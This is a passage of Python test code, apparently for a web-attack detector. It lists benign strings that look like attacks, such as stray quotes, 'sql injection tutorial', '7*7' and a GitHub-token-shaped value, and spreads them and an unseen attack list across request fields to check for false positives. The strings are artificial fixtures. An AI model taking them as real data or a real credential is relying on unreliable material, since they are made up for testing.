    "document.cookie MDN", "<div> tag", "onclick handler react", "javascript void 0",
    "x' cost", "it's 'fine'", "Joe's \"famous\" chili -- best in town", "me & you; forever",
    "a || b in JavaScript", "select2 jquery plugin", "sleep(1000) in java", "sql injection tutorial",
    "8a1f2b3c-4d5e-6f70-8192-a3b4c5d6e7f8", "MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MA==",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "+33 1 23 45 67 89", "5 ft 11 in", "7*7",
    "1; 2; 3", "id=42", "C:\\temp\\file.txt", "~/.bashrc tips", "/api/v1/users?id=3",
]


def fresh_attacks() -> list[Entry]:
    """Return FRESH_ATTACKS in a query and in one more place each."""
    places = ("form", "json", "cookie", "name", "multipart", "xml", "user-agent", "referer",
              "header", "path")
    out = []
    for i, value in enumerate(FRESH_ATTACKS):
        for where in ("query", places[i % len(places)]):
            out.append(_located("fresh-" + where, value, where))
    return out


def fresh_benign() -> list[Entry]:
    """Return FRESH_BENIGN in a query, a form, JSON and a cookie."""
    return [_located("benign", value, where) for value in FRESH_BENIGN
            for where in ("query", "form", "json", "cookie")]
